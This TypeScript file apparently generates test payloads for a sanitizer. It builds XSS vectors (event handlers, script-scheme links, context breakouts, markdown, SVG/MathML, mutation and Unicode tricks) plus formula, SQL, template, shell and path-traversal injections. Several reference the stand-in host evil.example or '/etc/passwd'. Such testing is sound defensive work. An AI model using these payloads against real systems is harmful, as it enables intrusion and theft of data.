/** Texts that would run as a script wherever one wall is missing; what they run sets `__hit`, which is trapped. */
export function ownPayloads(): string[] {
  return [
    ...new Set([
      ...tags(),
      ...addresses(),
      ...breaks(),
      ...markdown(),
      ...foreign(),
      ...mutations(),
      ...tricks(),
      ...prints(),
    ]),
  ]
}

const RUN = '__hit=1'
const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onbegin',
  'onpageshow',
  'onbeforematch',
]
const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'iframe',
  'marquee',
  'select autofocus',
  'object data=x',
  'x-a tabindex=1 autofocus',
  'style',
  'audio src=x',
  'a href=#',
]

function tags(): string[] {
  return ELEMENTS.flatMap((element, at) =>
    HANDLERS.flatMap((handler, nth) => [
      `<${element} ${handler}=${RUN}>`,
      SPELLINGS[(at + nth) % SPELLINGS.length]?.(element, handler) ?? '',
      `"><${element} ${handler}="${RUN}">`,
    ]),
  )
}

/** The same tag as browsers still read it and simple filters do not. */
const SPELLINGS: ((element: string, handler: string) => string)[] = [
  (element, handler) => `<${element.toUpperCase()} ${handler.toUpperCase()}='${RUN}'>`,
  (element, handler) => `<${element.replace(' ', '/')}/${handler}=${RUN}//`,
  (element, handler) => `<${element}\n${handler}\t=\r${RUN} `,
  (element, handler) => `<${element} ${handler}=&#95;&#x5f;hit&equals;1>`,
  (element, handler) => `<<${element} ${handler}=${RUN}<`,
  (element, handler) => `&lt;${element} ${handler}=${RUN}&gt;`,
  (element, handler) => `%3C${element}%20${handler}%3D${RUN}%3E`,
  (element, handler) => `\u003c${element} ${handler}=${RUN}\u003e`,
  (element, handler) => `\uff1c${element} ${handler}=${RUN}\uff1e`,
  (element, handler) => `<${element} x="\`${handler}" ${handler}=\`${RUN}\`>`,
]

const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0001javascript:',
  'javascript&colon;',
  'javascript&#58;',
  '&#x6A;avascript:',
  'vbscript:',
  'data:text/html,<script>__hit=1</script>,',
  'data:text/html;base64,PHNjcmlwdD5fX2hpdD0xPC9zY3JpcHQ+#',
  'feed:javascript:',
  'view-source:javascript:',
  'javascript://%0a',
  '\u00adjavascript:',
  'javascript\u200b:',
  '//evil.example/',
  '\\\\evil.example\\',
  'https:evil.example/',
  'blob:',
]
const PLACES: ((address: string) => string)[] = [
  (address) => `<a href="${address}">a</a>`,
  (address) => `[a](${address})`,
  (address) => `[a](<${address}>)`,
  (address) => `![a](${address})`,
  (address) => `<${address}>`,
  (address) => `[a][1]\n\n[1]: ${address}`,
  (address) => `<form action="${address}"><button formaction="${address}">a</button></form>`,
  (address) => `<svg><a xlink:href="${address}"><text>a</text></a></svg>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
]

const addresses = () => SCHEMES.flatMap((scheme) => PLACES.map((place) => place(`${scheme}${RUN}`)))

/** Out of the places in which a word may stand: text, attribute, script, style, comment, title, textarea. */
function breaks(): string[] {
  const ends = [
    '"',
    "'",
    '">',
    "'>",
    '</title>',
    '</textarea>',
    '</script>',
    '</style>',
    '-->',
    ']]>',
    '*/',
    '</noscript>',
    '</template>',
    '</select>',
    '</svg>',
    '\\";',
    '`',
    '?>',
    '%>',
  ]
  const runs = [
    `<script>${RUN}</script>`,
    `<img src=x onerror=${RUN}>`,
    ` onmouseover=${RUN} x="`,
    `;${RUN}//`,
    `<svg onload=${RUN}>`,
    `<base href=//evil.example>`,
  ]
  return ends.flatMap((end) => runs.map((run) => end + run))
}

function markdown(): string[] {
  const inner = `<img src=x onerror=${RUN}>`
  const contexts: ((text: string) => string)[] = [
    (text) => `\`${text}\``,
    (text) => `\`\`\`\n${text}\n\`\`\``,
    (text) => `\`\`\`${text}\ncode\n\`\`\``,
    (text) => `    ${text}`,
    (text) => `> ${text}`,
    (text) => `# ${text}`,
    (text) => `- ${text}`,
    (text) => `| ${text} |\n| - |\n| ${text} |`,
    (text) => `*${text}*`,
    (text) => `[${text}](https://example.org)`,
    (text) => `[a](https://example.org "${text}")`,
    (text) => `[a](/b '"${text}')`,
    (text) => `![${text}](/a.png)`,
    (text) => `![a](/a.png "${text}")`,
    (text) => `![a](x"${text})`,
    (text) => `https://example.org/${text}`,
    (text) => `<https://example.org/${text}>`,
    (text) => `a@example.org${text}`,
    (text) => `[^1]: ${text}`,
    (text) => `\\${text}`,
    (text) => `~~${text}~~`,
    (text) => `@${text}`,
  ]
  const words = [
    inner,
    `" onmouseover="${RUN}`,
    `'onfocus='${RUN}' autofocus`,
    `<script>${RUN}</script>`,
    `javascript:${RUN}`,
  ]
  return contexts.flatMap((context) => words.map(context))
}

/** In the tongues that HTML lets in: SVG, MathML, CSS, XML. */
function foreign(): string[] {
  const events = ['onbegin', 'onend', 'onrepeat']
  return [
    ...events.map((event) => `<svg><animate ${event}=${RUN} attributeName=x dur=1s>`),
    `<svg><script>${RUN}</script></svg>`,
    `<svg><script href="data:,${RUN}"/></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
    `<svg><foreignObject><body onload=${RUN}>`,
    `<svg><set attributeName=href to=javascript:${RUN}>`,
    `<svg><a><animate attributeName=href values=javascript:${RUN} /><text>a`,
    `<math href="javascript:${RUN}">a</math>`,
    `<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:${RUN}">a`,
    `<math><mtext></p><img src=x onerror=${RUN}>`,
    `<style>@import "//evil.example/a.css";</style>`,
    `<style>*{background:url(//evil.example/a)}</style>`,
    `<div style="background:url(//evil.example/b)">a</div>`,
    `<div style="x:expression(${RUN})">`,
    `<link rel=stylesheet href=//evil.example/c.css>`,
    `<link rel=prefetch href=//evil.example/d>`,
    `<?xml-stylesheet href="javascript:${RUN}"?>`,
    `<object data="data:text/html,<script>${RUN}</script>">`,
    `<embed src="data:image/svg+xml,<svg onload=${RUN}>">`,
    `<base href="//evil.example/">`,
    `<applet code=a>`,
    `<portal src=//evil.example>`,
    `<img src=//evil.example/e.gif>`,
    `<img srcset="//evil.example/f.gif 1x">`,
    `<video poster=//evil.example/g.gif>`,
    `<input type=image src=//evil.example/h.gif>`,
    `<table background=//evil.example/i.gif>`,
    `![a](//evil.example/j.gif)`,
    `![a](https://evil.example/k.gif)`,
    `<form id=a action=//evil.example><input name=csrf>`,
    `<input name=__proto__>`,
    `<a id=config name=config>`,
    `<iframe srcdoc="<script>parent.${RUN}</script>">`,
    `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  ]
}

/** What is harmless when it is read once and harmful when a browser writes and reads it again. */
function mutations(): string[] {
  const inner = `<img src=x onerror=${RUN}>`
  const outer = [
    'noscript',
    'style',
    'title',
    'textarea',
    'xmp',
    'noembed',
    'noframes',
    'iframe',
    'script',
    'plaintext',
  ]
  return [
    ...outer.flatMap((tag) => [
      `<${tag}><p title="</${tag}>${inner}">`,
      `<svg><${tag}><a title="</${tag}>${inner}">`,
      `<math><mtext><table><mglyph><${tag}><!--</${tag}><img title="--&gt;${inner}">`,
    ]),
    ...outer.map((tag) => `<select><${tag}></select>${inner}</${tag}>`),
    `<svg></p><style><a id="</style>${inner}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
    `<p id="</p>${inner}`,
    `<!--><img src=x onerror=${RUN}>-->`,
    `<!--!>${inner}`,
    `<![CDATA[${inner}]]>`,
    `<a href="x\`x" title="\`${inner}">`,
    `<b><i></b>${inner}</i>`,
    `<table><td>${inner}<tr>`,
    `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
    `<svg><![CDATA[><image xlink:href="]]>${inner}"></svg>`,
  ]
}

/** Letters that look, sort, join or turn otherwise than they are written. */
function tricks(): string[] {
  const odd = [
    '\u202e',
    '\u2066',
    '\u200b',
    '\ufeff',
    '\u00ad',
    '\u0000',
    '\u2028',
    '\u2029',
    '\u0085',
    '\ufffe',
    '\ud800',
    '\udc00',
    '\u0338',
    '\u1e9e',
    '\u0130',
    '\u212a',
    '\ufb00',
    '\u{e0001}',
    '\u{1f469}\u200d\u{1f4bb}',
    'a\u0301'.repeat(30),
  ]
  return odd.flatMap((letter) => [
    `<${letter}script>${RUN}</script>`,
    `<s${letter}cript>${RUN}</script>`,
    `<img src=x ${letter}onerror=${RUN}>`,
    `[a](java${letter}script:${RUN})`,
    `${letter}"${letter}>${letter}<svg onload=${RUN}>`,
    `&lt${letter};script>`,
  ])
}

/** For what makes files of our words: the print, tables, templates, heads of mails, statements. */
function prints(): string[] {
  return [
    '#panic("a")',
    '#read("/etc/passwd")',
    '#link("javascript:__hit=1")[a]',
    '#import "@preview/a:0.1.0"',
    '#eval("1")',
    '$ sum $',
    '*_#`',
    '= a',
    '=1+1',
    "=cmd|' /C calc'!A0",
    '@SUM(1)',
    '+1',
    '-1',
    '\t=1',
    '{{7*7}}',
    '$\u007b7*7}',
    '#{7*7}',
    '<%= 7*7 %>',
    "' or 1=1 --",
    '"; drop table post; --',
    '\\x27',
    '%s%n',
    '{0}',
    '{name, plural, one {a}}',
    '$(id)',
    '`id`',
    '| id',
    '../../etc/passwd',
    '\r\nBcc: a@evil.example',
    '\r\n\r\n<script>',
  ]
}
